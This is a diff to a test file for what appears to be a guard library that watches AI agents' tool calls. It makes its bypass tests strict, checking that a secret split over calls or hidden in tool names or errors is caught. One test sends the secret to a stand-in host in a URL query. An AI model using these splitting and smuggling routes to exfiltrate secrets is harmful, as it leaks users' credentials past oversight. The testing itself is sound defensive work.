@@ -9,7 +9,7 @@ from typing import Any
 import pytest
 
 from gatling_guard import Decision
-from tests.bypasses.agent import Agent, held_against, new_guard, said, stopped
+from tests.bypasses.agent import Agent, new_guard, said, stopped
 
 SECRET = "zq41-harbor-lumen-5580"
 HOST = "stat-collect.example"
@@ -156,10 +156,6 @@ RUNS: dict[str, Sequence[tuple[str, dict[str, Any]]]] = {
 }  # fmt: skip
 
 
-_LENGTH = "energy/flow `_cargo` takes a secret for the address when its line is longer than the URL"
-NOT_YET = {"in twos": _LENGTH, "in paths": _LENGTH, "in labels": _LENGTH, "in an error": _LENGTH}
-
-
 @pytest.mark.parametrize(("name", "calls"), RUNS.items(), ids=RUNS)
 def test_a_secret_split_over_calls_does_not_leave_whole(
     name: str, calls: Sequence[tuple[str, dict[str, Any]]]
@@ -170,7 +166,7 @@ def test_a_secret_split_over_calls_does_not_leave_whole(
         decision = run.runs(tool, "ok", **arguments)
         told.append(said(decision))
         caught |= stopped(decision) and any("secret" in reason for reason in decision.reasons)
-    held_against(name, caught, NOT_YET, "\n".join(told))
+    assert caught, "\n".join(told)
 
 
 def test_planted_text_does_not_crowd_out_the_secret() -> None:
@@ -228,4 +224,4 @@ def test_a_secret_as_the_name_of_a_tool_or_in_an_error() -> None:
     other.session.settle(request.call.node_id if request.call else "", error=ValueError(
         f"cannot parse line 1: STATUS_TOKEN={SECRET}"))  # fmt: skip
     decision = other.tries(FETCH, url=f"https://{HOST}/p?d={SECRET}")
-    held_against("in an error", stopped(decision), NOT_YET, said(decision))
+    assert stopped(decision), said(decision)
